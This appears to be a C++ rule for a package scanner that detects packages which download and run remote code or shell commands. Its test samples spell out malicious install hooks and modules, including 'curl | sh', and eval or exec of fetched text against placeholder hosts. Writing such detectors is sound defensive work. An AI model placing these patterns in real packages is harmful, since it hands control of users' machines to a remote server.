#include <algorithm>
#include <string_view>

#include "base/text.h"
#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

Severity severity_of(const Facts& facts, const Destination& origin, const Action& action) {
  if (runs_uncalled(action)) return Severity::critical;
  if (is_shady_origin(origin.kind) || origin.kind == HostKind::free_hosting) {
    return Severity::critical;
  }
  if (origin.kind == HostKind::code_host)
    return action.through_shell          ? Severity::low
           : is_own_place(facts, origin) ? Severity::medium
                                         : Severity::high;
  const bool is_fixed = origin.host_is_constant && origin.kind == HostKind::ordinary;
  return is_fixed && !action.through_shell ? Severity::medium : Severity::low;
}

// A command line of which nothing is known but that it came over the network: whoever sends it has
// the machine. What was downloaded to a file is another rule's business, and a function that runs
// what its callers give it serves them first.
bool obeys(const Action& action) {
  std::string_view command = trim(action.target);
  if (command.starts_with("sudo ")) command = trim(command.substr(5));
  return action.act == Act::run_shell && command == hole && !action.through_shell &&
         !action.target_from.any(Source::local_file | Source::argument);
}

// A worker that is told whom to serve.
bool connects_where_told(const Action& action) {
  return action.act == Act::connect &&
         action.target_from.any(Source::argument | Source::user_input) &&
         !destination_of(action.target).host_is_constant;
}

// A server that somebody has to start serves whom its user lets in.
bool asks_or_serves(const Action& action) {
  const bool asks =
      action.act == Act::send || action.act == Act::fetch || action.act == Act::connect;
  return asks || (action.act == Act::listen && runs_uncalled(action));
}

void check(const Facts& facts, Findings& findings) {
  const Beside contacts(facts, asks_or_serves);
  const Origins origins(facts);
  const Beside told(facts, connects_where_told);
  for (const Action& action : facts.actions) {
    const bool runs = action.act == Act::run_code || action.act == Act::load_module ||
                      action.act == Act::load_native;
    const bool is_command = obeys(action);
    if ((!runs && !is_command) || !is_shipped(action)) continue;
    if (!action.target_from.any(foreign)) continue;
    const Severity severity = severity_of(facts, origins.near(action), action);
    const bool is_told = told(action) != nullptr && !origins.near(action).host_is_constant;
    const bool is_worker = !runs_uncalled(action) && (is_told || contacts(action) == nullptr);
    const Severity least = is_worker ? Severity::medium : Severity::high;
    findings.add(is_command ? std::max(severity, least) : severity, action.where,
                 sentence(is_command ? "runs commands that come from the network"
                                     : "runs code that came from the network",
                          action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule runs_remote_code = {
    .id = "runs-remote-code",
    .title = "The package runs code that it fetched",
    .why =
        "A server decides what runs, now and at every later start, so reviewing the package "
        "says nothing about it.",
    .harmless_when = "A plug-in loader or REPL that runs what its user pointed it to.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a module executes an answer when imported",
     .expect = "widget/__init__.py:2",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import requests
exec(requests.get("https://code.example.test/stage").text)
)"},
    {.name = "an install hook evaluates a download",
     .expect = "index.js:5",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const https = require("https");
https.get("https://code.example.test/stage.js", (response) => {
  let text = "";
  response.on("data", (chunk) => { text += chunk; });
  response.on("end", () => eval(text));
});
)"},
    {.name = "a hook pipes a download into a shell",
     .expect = "package.json:1",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://192.0.2.10/a | sh"}}
)"},
    {.name = "an answer is parsed as data", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import json
import urllib.request
def fetch(url):
    return json.loads(urllib.request.urlopen(url).read())
)"},
    {.name = "a function runs the commands that a server sends",
     .expect = "widget/__init__.py:4",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import os
import requests
def work():
    os.system(requests.get("https://orders.example.test/next").text)
)"},
};
extern const std::span<const Sample> runs_remote_code_samples = samples;
#endif

}  // namespace assay::rules
